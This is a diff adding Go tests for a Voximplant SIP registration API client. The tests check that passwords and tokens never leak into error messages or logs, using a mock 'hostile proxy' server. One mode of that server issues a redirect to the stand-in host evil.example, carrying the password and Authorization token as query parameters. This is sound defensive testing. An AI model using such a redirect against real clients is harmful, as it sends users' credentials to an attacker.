@@ -1,0 +1,183 @@
+package api_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"fmt"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/voxsip/voxsip/api"
+	"github.com/voxsip/voxsip/api/apitest"
+	"github.com/voxsip/voxsip/auth"
+)
+
+// Sentinels: a password with characters every escaping treats differently, and a token.
+const (
+	secretPassword = "S3nt!nel pw&=/+%ü"
+	secretToken    = "eyJTOKENSENTINEL.eyJcGF5bG9hZA.c2lnbmF0dXJlU0VOVElORUw"
+)
+
+// echo answers the way a hostile proxy might: it repeats the request URL (in its raw and decoded
+// forms) and the Authorization header in whatever place the mode puts them.
+func echo(mode string) http.HandlerFunc {
+	return func(w http.ResponseWriter, r *http.Request) {
+		leak := r.URL.String() + " " + r.URL.RawQuery + " " + r.URL.Query().Get("password") + " " + r.Header.Get("Authorization")
+		switch mode {
+		case "html503":
+			w.Header().Set("Content-Type", "text/html")
+			w.WriteHeader(503)
+			fmt.Fprintf(w, "<html>%s</html>", leak)
+		case "apierror":
+			b, _ := json.Marshal(map[string]any{"error": map[string]any{"code": 101, "msg": leak},
+				"errors": []any{map[string]any{"code": 101, "msg": leak}}})
+			w.Write(b)
+		case "badjson":
+			fmt.Fprintf(w, `{"result": %q`, leak)
+		case "redirect":
+			w.Header().Set("Location", "https://evil.example/?password="+url.QueryEscape(r.URL.Query().Get("password"))+"&t="+r.Header.Get("Authorization"))
+			w.WriteHeader(307)
+		case "huge":
+			fmt.Fprintf(w, `{"pad": %q, "x": "%s"}`, leak, strings.Repeat("x", 2<<20))
+		case "hang":
+			<-r.Context().Done()
+		}
+	}
+}
+
+// fixedToken hands out the sentinel token.
+type fixedToken struct{}
+
+func (fixedToken) Token(context.Context) (auth.Token, error) {
+	return auth.NewToken(secretToken, time.Now().Add(time.Hour)), nil
+}
+
+// TestNoSecretInAnyErrorOrLog runs every error path with the sentinels and checks each error's
+// text in every verb, and the log, for any form of them.
+func TestNoSecretInAnyErrorOrLog(t *testing.T) {
+	forbidden := []string{secretPassword, url.QueryEscape(secretPassword), url.PathEscape(secretPassword),
+		secretToken, "SENTINEL", "S3nt!nel", "S3nt%21nel"}
+	var logs bytes.Buffer
+	logger := slog.New(slog.NewTextHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
+	params := func() *api.UpdateSIPRegistrationParams {
+		return &api.UpdateSIPRegistrationParams{SIPRegistrationID: 1, Password: api.Ptr(secretPassword), Proxy: api.Ptr("p")}
+	}
+	check := func(t *testing.T, err error) {
+		t.Helper()
+		if err == nil {
+			t.Fatal("no error")
+		}
+		for _, verb := range []string{"%v", "%+v", "%#v", "%s", "%q"} {
+			out := fmt.Sprintf(verb, err)
+			for _, f := range forbidden {
+				if strings.Contains(out, f) {
+					t.Errorf("%s of the error shows %q: %s", verb, f, out)
+				}
+			}
+		}
+	}
+
+	for _, mode := range []string{"html503", "apierror", "badjson", "redirect", "huge"} {
+		t.Run(mode, func(t *testing.T) {
+			srv := httptest.NewServer(echo(mode))
+			defer srv.Close()
+			c, err := api.NewClient(api.WithBaseURL(srv.URL), api.WithTokenSource(fixedToken{}), api.WithLogger(logger))
+			if err != nil {
+				t.Fatal(err)
+			}
+			api.SetTimeForTest(c, nil, (&sleeps{}).sleep)
+			err = c.UpdateSIPRegistration(context.Background(), params())
+			check(t, err)
+			if mode == "html503" && !strings.Contains(err.Error(), "password=***") {
+				t.Errorf("the echo was not kept (masked): %v", err)
+			}
+		})
+	}
+	t.Run("hang_timeout", func(t *testing.T) {
+		srv := httptest.NewServer(echo("hang"))
+		defer srv.Close()
+		c, _ := api.NewClient(api.WithBaseURL(srv.URL), api.WithTokenSource(fixedToken{}), api.WithLogger(logger),
+			api.WithHTTPClient(&http.Client{Timeout: 50 * time.Millisecond}), api.WithRetryPolicy(api.NoRetries))
+		err := c.UpdateSIPRegistration(context.Background(), params())
+		check(t, err)
+		if !strings.Contains(err.Error(), "password=***") {
+			t.Errorf("the URL in the error is not there, masked: %v", err)
+		}
+	})
+	t.Run("connection_refused", func(t *testing.T) {
+		srv := httptest.NewServer(echo("hang"))
+		srv.Close()
+		c, _ := api.NewClient(api.WithBaseURL(srv.URL), api.WithTokenSource(fixedToken{}), api.WithLogger(logger))
+		api.SetTimeForTest(c, nil, (&sleeps{}).sleep)
+		check(t, c.UpdateSIPRegistration(context.Background(), params()))
+	})
+	t.Run("validation", func(t *testing.T) {
+		c, _ := api.NewClient(api.WithTokenSource(fixedToken{}), api.WithLogger(logger))
+		p := params()
+		p.UserID = api.Ptr(int64(1))
+		check(t, c.UpdateSIPRegistration(context.Background(), p))
+	})
+	t.Run("fake_api_error", func(t *testing.T) {
+		srv := apitest.NewServer()
+		defer srv.Close()
+		srv.FailNext(101, "Invalid arguments")
+		c, _ := api.NewClient(api.WithBaseURL(srv.URL), api.WithCredentials(srv.Credentials()), api.WithLogger(logger))
+		check(t, c.UpdateSIPRegistration(context.Background(), params()))
+	})
+
+	log := logs.String()
+	if strings.Count(log, "\n") < 10 {
+		t.Fatalf("expected a log line per attempt, got:\n%s", log)
+	}
+	for _, f := range forbidden {
+		if strings.Contains(log, f) {
+			t.Errorf("the log shows %q:\n%s", f, log)
+		}
+	}
+}
+
+func TestLoggerOneLinePerAttempt(t *testing.T) {
+	var logs bytes.Buffer
+	c, srv, _ := setup(t, api.WithLogger(slog.New(slog.NewTextHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug}))))
+	srv.Enqueue(apitest.Status(503, nil, "busy"))
+	if err := c.UpdateSIPRegistration(context.Background(), one); err != nil {
+		t.Fatal(err)
+	}
+	lines := strings.Split(strings.TrimSpace(logs.String()), "\n")
+	if len(lines) != 2 {
+		t.Fatalf("%d log lines, want 2:\n%s", len(lines), logs.String())
+	}
+	for i, want := range []string{
+		`level=WARN msg="voximplant request" method=POST op=UpdateSipRegistration status=503 attempt=1 duration=`,
+		`level=DEBUG msg="voximplant request" method=POST op=UpdateSipRegistration status=200 attempt=2 duration=`,
+	} {
+		if !strings.Contains(lines[i], want) {
+			t.Errorf("line %d = %q, want it to contain %q", i+1, lines[i], want)
+		}
+	}
+	if !strings.Contains(lines[0], `error="voximplant: UpdateSipRegistration: unexpected HTTP status`) {
+		t.Errorf("the failed attempt's line lacks the error: %q", lines[0])
+	}
+}
+
+// Values that hold secrets print masked in every verb.
+func TestValuesPrintNoSecrets(t *testing.T) {
+	c, srv, _ := setup(t)
+	p := &api.UpdateSIPRegistrationParams{SIPRegistrationID: 1, Password: api.Ptr(secretPassword)}
+	if err := c.UpdateSIPRegistration(context.Background(), p); err != nil {
+		t.Fatal(err)
+	}
+	for _, verb := range []string{"%v", "%+v", "%#v", "%s"} {
+		for _, v := range []any{c, *c, p, *p, srv.Requests()[0], srv.Credentials()} {
+			if out := fmt.Sprintf(verb, v); strings.Contains(out, secretPassword) || strings.Contains(out, "PRIVATE KEY") {
+				t.Errorf("%s of %T prints a secret: %s", verb, v, out)
+			}
+		}
+	}
+}
